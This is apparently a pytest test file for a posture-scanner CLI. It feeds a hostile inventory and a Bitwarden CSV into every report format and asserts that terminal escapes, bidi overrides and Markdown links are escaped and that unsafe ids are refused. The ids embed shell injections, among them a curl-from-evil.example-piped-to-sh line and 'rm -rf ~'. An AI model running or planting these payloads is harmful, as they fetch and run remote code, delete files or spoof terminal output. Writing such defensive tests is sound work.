"""Injection from inventory and import data, written as the red team's attacks: an inventory laden
with ESC/OSC sequences, bidi overrides and fake lines through every report format and the breach
checklist; Markdown link and image syntax in a person's name; shell metacharacters in ids; an
ESC-laden CSV export. No raw control character reaches any sink, JUnit parses, Markdown renders
no link or image, and ids that are not `[A-Za-z0-9._-]` are refused with one line."""

from __future__ import annotations

import json
import re
import xml.dom.minidom
from pathlib import Path

import pytest
from typer.testing import CliRunner

from scanner.cli import app
from scanner.core import text
from tests.conftest import PASSPHRASE

runner = CliRunner()
AS_OF = "2026-11-23"
ESC = "\x1b"
# Retitle the window, clear the screen, print a green fake PASS line, hide text, reverse text.
OSC_TITLE = "\\u001b]0;pwned\\u0007"
CLEAR = "\\u001b[2J\\u001b[H"
FAKE_PASS = "\\u001b[32mPASS\\u001b[0m\\nPASS  all checks passed\\r"
HIDDEN = "\\u001b[8mhidden\\u001b[0m"
RTL = "\\u202egnp.exe"
C1_CSI = "\\u009b31m"
IMAGE = "![x](https://evil.example/pixel.png)"
LINK = "[re-verify here](https://evil.example/login)"

EVIL_INVENTORY = f"""
[organization]
name = "Acme{OSC_TITLE}{CLEAR} Outdoor"
domains = ["acme.example"]
brand_terms = ["acme"]

[[people]]
id = "eve"
name = "Eve {IMAGE} {LINK} {FAKE_PASS}{HIDDEN}"
email = "eve@gmail.com"
role = "lead{C1_CSI}"

[[agencies]]
id = "agency-1"
name = "Bright{RTL}"

[[accounts]]
id = "x-main"
platform = "x"
handle = "@acme{HIDDEN}{RTL}"
url = "https://x.com/acme{CLEAR}"
tier = "critical"
owner = "eve"
registered_to = "employee"
login_email = "eve@gmail.com{OSC_TITLE}"
mfa = "sms"
admins = ["eve"]
password_known_by = ["eve", "agency:agency-1"]
"""

FORMATS = ("table", "json", "sarif", "junit", "csv", "markdown", "html")
# What must never appear raw: C0 controls but newline/tab (CR too: it rewrites a line), DEL, C1,
# bidi overrides and isolates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def evil(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "inventory.toml").write_text(EVIL_INVENTORY, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("POSTURE_VAULT_PASSPHRASE", PASSPHRASE)
    return tmp_path


def _scan(fmt: str) -> str:
    result = runner.invoke(
        app,
        ["scan", "--no-vault", "--as-of", AS_OF, "-f", fmt, "--show-passed", "--fail-on", "none"],
    )
    assert result.exit_code == 0, result.output[:500]
    assert not RAW_CONTROL.search(result.stderr)
    return result.stdout


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_esc_laden_inventory_reaches_no_format_raw(evil: Path, fmt: str) -> None:
    out = _scan(fmt)
    found = RAW_CONTROL.search(out)
    assert found is None, f"raw {found[0]!r} in {fmt}" if found else ""
    assert "pwned" in out, "the text is still shown, escaped"


def test_the_table_shows_the_escapes_and_no_fake_line(evil: Path) -> None:
    out = _scan("table")
    assert "\\x1b]0;pwned\\x07" in out
    assert "\\u202e" in out
    assert not any(line.startswith("PASS  all checks passed") for line in out.splitlines())


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_json_formats_keep_the_data_but_not_the_raw_bytes(evil: Path, fmt: str) -> None:
    out = _scan(fmt)
    assert "\\u202e" in out or "\\u001b" in out
    json.loads(out)  # still valid JSON, the same strings when parsed
    assert "\u202e" in json.dumps(json.loads(out), ensure_ascii=False)


def test_junit_with_control_characters_still_parses(evil: Path) -> None:
    xml.dom.minidom.parseString(_scan("junit").encode("utf-8"))  # noqa: S318 - our own output


def test_html_report_holds_no_raw_control_character(evil: Path) -> None:
    out = _scan("html")
    assert "<img" not in out.replace('<img src="data:', "")
    assert "evil.example" in out


def test_markdown_renders_no_image_or_link_from_a_persons_name(evil: Path) -> None:
    out = _scan("markdown")
    assert IMAGE not in out and LINK not in out
    assert "](https://evil" not in out
    assert "\\!\\[x\\]\\(https://evil.example/pixel.png\\)" in out


def test_breach_checklist_text_and_markdown_escape_controls(evil: Path) -> None:
    assert runner.invoke(app, ["vault", "init"]).exit_code == 0
    for extra in ((), ("--format", "markdown")):
        result = runner.invoke(app, ["breach", "checklist", "x-main", *extra])
        assert result.exit_code == 0, result.output[:400]
        assert not RAW_CONTROL.search(result.stdout), extra
        if extra:
            assert "](https://evil" not in result.stdout
    started = runner.invoke(
        app, ["breach", "start", "x-main", "--by", "t", "--note", f"seen {ESC}[2J at 9"]
    )
    assert started.exit_code == 0, started.output
    for command in (["breach", "show", "x-main"], ["breach", "export", "x-main"]):
        result = runner.invoke(app, command)
        assert result.exit_code == 0
        assert not RAW_CONTROL.search(result.stdout), command


def test_import_lines_escape_what_the_export_holds(evil: Path) -> None:
    assert runner.invoke(app, ["vault", "init"]).exit_code == 0
    export = evil / "bitwarden.csv"
    export.write_text(
        "folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp\n"
        f',,login,"Bank{ESC}]0;owned{chr(7)}{ESC}[2J",,,,https://unknown{ESC}[8m.example,u,pw-1,\n',
        encoding="utf-8",
    )
    result = runner.invoke(app, ["vault", "import", str(export), "--from", "bitwarden"])
    assert result.exit_code == 0, result.output
    assert "not imported" in result.stdout
    assert ESC not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b]0;owned\\x07" in result.stdout


@pytest.mark.parametrize(
    ("table", "bad_id"),
    [
        ("accounts", "mail$(curl evil.example|sh)"),
        ("accounts", "x main"),
        ("accounts", "x;rm -rf ~"),
        ("accounts", "-rf"),
        ("people", "eve`id`"),
        ("agencies", "bright&social"),
        ("accounts", "x\u202emain"),
    ],
)
def test_ids_outside_the_safe_alphabet_are_refused_with_one_line(
    tmp_path: Path, table: str, bad_id: str
) -> None:
    source = EVIL_INVENTORY
    old = {"accounts": 'id = "x-main"', "people": 'id = "eve"', "agencies": 'id = "agency-1"'}[
        table
    ]
    source = source.replace(old, f"id = {json.dumps(bad_id)}")
    path = tmp_path / "inventory.toml"
    path.write_text(source, encoding="utf-8")
    result = runner.invoke(app, ["scan", str(path), "--no-vault", "--no-history"])
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    # The id's own line comes first; references to the refused id may follow, one line each.
    assert all(line.startswith("posture: error: ") for line in lines), result.stderr
    assert re.match(rf"posture: error: .*inventory\.toml:\d+: {table}\[0\]\.id: ", lines[0])
    assert "is not a valid id" in lines[0]
    assert not RAW_CONTROL.search(lines[0])


def test_a_vault_entry_name_outside_the_alphabet_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "inventory.toml"
    path.write_text(
        EVIL_INVENTORY.replace('platform = "x"', 'platform = "x"\nvault_entry = "a b"'), "utf-8"
    )
    result = runner.invoke(app, ["scan", str(path), "--no-vault", "--no-history"])
    assert result.exit_code == 2
    assert "accounts[0] (x-main).vault_entry" in result.stderr


def test_the_sanitiser_leaves_ordinary_text_and_posture_colours_alone() -> None:
    assert text.one_line("Dana Ruiz — Łódź, 東京 ✓") == "Dana Ruiz — Łódź, 東京 ✓"
    assert text.terminal("\x1b[31mFAIL\x1b[0m\tx\n") == "\x1b[31mFAIL\x1b[0m\tx\n"
    assert text.terminal("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert text.one_line("a\nb\rc") == "a\\x0ab\\x0dc"
    assert text.xml("a\x1b\tb\x85") == "a\\x1b\tb\\x85"
    assert text.markdown("a|b <i>*x*</i> &#8238;") == "a\\|b \\<i\\>\\*x\\*\\</i\\> \\&\\#8238;"
